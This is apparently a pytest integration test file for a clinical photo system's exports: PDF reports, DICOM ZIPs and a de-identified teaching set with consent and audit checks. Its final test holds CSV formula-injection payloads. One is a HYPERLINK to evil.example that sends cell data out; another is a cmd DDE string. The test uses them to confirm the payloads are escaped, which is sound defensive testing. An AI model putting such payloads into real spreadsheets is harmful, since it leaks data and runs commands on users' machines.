"""Exports: the PDF report, the DICOM ZIP and the teaching set, checked by reading the real files
(the PDF rendered to text and pixels, the ZIP's objects through dciodvfy, the teaching set
searched for every identifier of the patient)."""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from collections.abc import Callable

import httpx
import pypdfium2 as pdfium
import pytest
from litestar import Litestar
from litestar.testing import TestClient
from PIL import Image, ImageStat
from pydicom import dcmread

from pointcare import audit
from pointcare.db.models import Instance
from pointcare.runtime import Runtime
from tests.conftest import Account
from tests.integration.conftest import Upload
from tests.integration.pages.conftest import SignIn
from tests.support.dicom_checks import VIEW_WARNINGS, assert_valid_dicom, jpeg_has_metadata
from tests.support.tools import corpus

EXPORT = "/patients/PC100001/export"
ISSUER = "?issuer=PCDEMO"
OBERG_IDENTIFIERS = ("PC100001", "Öberg", "Åsa", "ÖBERG", "1957-03-14", "19570314", "V24-000101")


@pytest.fixture
def stored(upload: Upload) -> dict[str, dict[str, str]]:
    """Three photos of Öberg: one for teaching, one without teaching consent, one sensitive."""
    photo = corpus("photos", "gps", "DSCN0010.jpg")
    kinds = {
        "teaching": {
            "consent_teaching": "true",
            "description": "Ulcer of Öberg, MRN PC100001, born 14/03/1957: healing",
        },
        "clinical": {"consent_teaching": "false", "body_site": "40983000", "laterality": "R"},
        "sensitive": {"consent_teaching": "true", "sensitive": "true", "body_site": "40983000"},
    }
    found: dict[str, dict[str, str]] = {}
    for kind, fields in kinds.items():
        response = upload(photo, role="clinician", view="close-up", **fields)
        assert response.status_code == 201, response.text
        found[kind] = response.json()
    return found


def _export(client: TestClient[Litestar], kind: str, uids: list[str]) -> httpx.Response:
    return client.post(f"{EXPORT}/{kind}{ISSUER}", data={"photos": uids})


def test_export_page_lists_the_photos_with_tick_boxes(
    browser: SignIn, stored: dict[str, dict[str, str]]
) -> None:
    page = browser("clinician").get(f"{EXPORT}{ISSUER}&all_photos=true")
    assert page.status_code == 200
    assert page.headers["cache-control"] == "no-store"
    for photo in stored.values():
        assert f'value="{photo["sop_instance_uid"]}" checked' in page.text
    assert 'name="csrf_token"' in page.text


def test_report_pdf_shows_each_photo_with_its_record(
    browser: SignIn,
    runtime: Runtime,
    accounts: dict[str, Account],
    stored: dict[str, dict[str, str]],
    request: pytest.FixtureRequest,
) -> None:
    uids = [stored["teaching"]["sop_instance_uid"], stored["clinical"]["sop_instance_uid"]]
    response = _export(browser("clinician"), "report", uids)
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"] == "application/pdf"
    assert response.headers["cache-control"] == "no-store"
    assert response.headers["content-disposition"].startswith('attachment; filename="photo-report-')

    pdf = pdfium.PdfDocument(response.content)
    request.addfinalizer(pdf.close)
    assert len(pdf) == 1 + len(uids)
    first = pdf[0].get_textpage().get_text_range()
    assert "ÖBERG, Åsa" in first and "PC100001" in first and "Page 1 of 3" in first
    clinician = accounts["clinician"].username
    assert f"by {clinician.title()} ({clinician})" in first
    for number, uid in enumerate(uids, start=1):
        page = pdf[number]
        text = page.get_textpage().get_text_range()
        with runtime.db.session() as session:
            row = session.query(Instance).filter_by(sop_instance_uid=uid).one()
        assert uid in text.replace("\r\n", "").replace("\n", "")
        assert row.sha256 in text.replace("\r\n", "").replace("\n", "")
        assert f"Page {number + 1} of 3" in text
        assert "Consent" in text and "Taken by" in text
        # The photo is drawn: the top half of the page is far from blank white.
        bitmap = page.render(scale=0.5).to_pil().convert("L")
        top = bitmap.crop((0, bitmap.height // 8, bitmap.width, bitmap.height // 2))
        assert ImageStat.Stat(top).stddev[0] > 20


def _break_glass(client: TestClient[Litestar]) -> None:
    granted = client.post(
        f"/patients/PC100001/break-glass{ISSUER}",
        data={"reason": "Documentation requested by the insurer", "next": "/"},
        follow_redirects=False,
    )
    assert granted.status_code == 303, granted.text


def test_a_sensitive_photo_is_exported_only_after_breaking_the_glass(
    browser: SignIn, runtime: Runtime, stored: dict[str, dict[str, str]]
) -> None:
    clinician = browser("clinician")
    sensitive = [stored["sensitive"]["sop_instance_uid"]]
    for kind in ("report", "dicom"):
        refused = _export(clinician, kind, sensitive)
        assert refused.status_code == 403
        assert "break the glass" in refused.text
    with runtime.db.session() as session:
        exported = audit.search(session, audit.AuditQuery(action=audit.AuditAction.EXPORT))
    assert exported.total == 0
    _break_glass(clinician)
    assert _export(clinician, "report", sensitive).status_code == 200


def test_dicom_zip_holds_the_objects_as_stored_with_a_dicomdir(
    browser: SignIn, runtime: Runtime, stored: dict[str, dict[str, str]]
) -> None:
    uids = sorted(photo["sop_instance_uid"] for photo in stored.values())
    clinician = browser("clinician")
    _break_glass(clinician)
    response = _export(clinician, "dicom", uids)
    assert response.status_code == 200, response.text[:300]
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    names = archive.namelist()
    assert "DICOMDIR" in names
    dicomdir = dcmread(io.BytesIO(archive.read("DICOMDIR")))
    assert dicomdir.FileSetID == "POINTCARE"
    images = [r for r in dicomdir.DirectoryRecordSequence if r.DirectoryRecordType == "IMAGE"]
    assert sorted(r.ReferencedSOPInstanceUIDInFile for r in images) == uids
    with runtime.db.session() as session:
        hashes = {row.sha256 for row in session.query(Instance).all()}
    objects = [name for name in names if name != "DICOMDIR"]
    assert len(objects) == len(uids)
    for name in objects:
        # PS3.10 file IDs: at most 8 characters per component, upper-case letters and digits.
        assert all(len(p) <= 8 and p.isalnum() and p == p.upper() for p in name.split("/"))
        data = archive.read(name)
        # Byte for byte what was archived: the export's copy hashes to the index's SHA-256.
        assert hashlib.sha256(data).hexdigest() in hashes
        assert_valid_dicom(data, expected_warnings=VIEW_WARNINGS)


def test_teaching_set_holds_only_consented_photos_and_no_identifier(
    browser: SignIn, stored: dict[str, dict[str, str]]
) -> None:
    uids = [photo["sop_instance_uid"] for photo in stored.values()]
    # The sensitive photo is chosen but never leaves: no need to break the glass.
    response = _export(browser("clinician"), "teaching", uids)
    assert response.status_code == 200, response.text[:300]
    assert "PC100001" not in response.headers["content-disposition"]
    assert response.headers["x-pointcare-left-out"] == "2"
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    jpegs = [name for name in archive.namelist() if name.endswith(".jpg")]
    assert len(jpegs) == 1
    jpeg = archive.read(jpegs[0])
    assert not jpeg_has_metadata(jpeg)
    assert Image.open(io.BytesIO(jpeg)).size[0] > 100
    table = archive.read("images.csv").decode()
    assert "[removed]" in table and "healing" in table
    readme = archive.read("README.txt").decode()
    assert "no consent for teaching" in readme and "sensitive" in readme
    # No identifier of the patient, nor any of the original UIDs, anywhere in the set.
    everything = b"".join(archive.read(name) for name in archive.namelist())
    everything += response.content
    for secret in OBERG_IDENTIFIERS + tuple(
        value
        for photo in stored.values()
        for value in photo.values()
        if isinstance(value, str) and "." in value
    ):
        for encoding in ("utf-8", "latin-1"):
            try:
                needle = secret.encode(encoding)
            except UnicodeEncodeError:
                continue
            assert needle not in everything, f"{secret!r} leaked into the teaching set"
    # The shifted date is not the real one.
    assert "2026-05-04" not in table


@pytest.mark.parametrize("kind", ["report", "dicom", "teaching"])
def test_every_export_is_audited_with_its_objects(
    browser: SignIn, runtime: Runtime, stored: dict[str, dict[str, str]], kind: str
) -> None:
    uid = stored["teaching"]["sop_instance_uid"]
    assert _export(browser("clinician"), kind, [uid]).status_code == 200
    with runtime.db.session() as session:
        found = audit.search(session, audit.AuditQuery(action=audit.AuditAction.EXPORT))
    (event,) = found.events
    assert event.role == "clinician"
    assert event.outcome == "success"
    assert uid in event.objects
    assert event.details["purpose"] == kind and event.details["images"] == 1


ExportCall = Callable[[TestClient[Litestar], str, list[str]], httpx.Response]


@pytest.mark.parametrize("kind", ["report", "dicom", "teaching"])
def test_exports_refuse_bad_selections_readably(
    browser: SignIn, stored: dict[str, dict[str, str]], kind: str
) -> None:
    clinician = browser("clinician")
    nothing = _export(clinician, kind, [])
    assert nothing.status_code == 422
    assert "Choose at least one photo" in nothing.text
    unknown = _export(clinician, kind, ["1.2.3.4.5"])
    assert unknown.status_code == 422
    assert "not in this patient" in unknown.text
    other = clinician.post(
        f"/patients/PC100002/export/{kind}{ISSUER}",
        data={"photos": [stored["teaching"]["sop_instance_uid"]]},
    )
    assert other.status_code == 422, "another patient's photo must not be exportable here"
    assert (
        _export(browser("photographer"), kind, [stored["teaching"]["sop_instance_uid"]]).status_code
        == 403
    )
    missing = clinician.post(f"/patients/NOSUCH/export/{kind}{ISSUER}", data={"photos": ["1.2"]})
    assert missing.status_code == 404


def test_teaching_set_refuses_when_nothing_may_be_used(
    browser: SignIn, stored: dict[str, dict[str, str]]
) -> None:
    response = _export(browser("clinician"), "teaching", [stored["clinical"]["sop_instance_uid"]])
    assert response.status_code == 422
    assert "1 no consent for teaching" in response.text


@pytest.mark.parametrize(
    "description",
    ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "@SUM(1,1)"],
)
def test_a_description_typed_as_a_formula_stays_text_in_the_teaching_csv(
    browser: SignIn, upload: Upload, description: str
) -> None:
    photo = corpus("photos", "gps", "DSCN0010.jpg")
    stored = upload(photo, role="clinician", consent_teaching="true", description=description)
    assert stored.status_code == 201, stored.text
    response = _export(browser("clinician"), "teaching", [stored.json()["sop_instance_uid"]])
    assert response.status_code == 200, response.text[:300]
    table = zipfile.ZipFile(io.BytesIO(response.content)).read("images.csv").decode()
    [row] = list(csv.DictReader(io.StringIO(table)))
    assert row["description"] == "'" + description
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row.values())
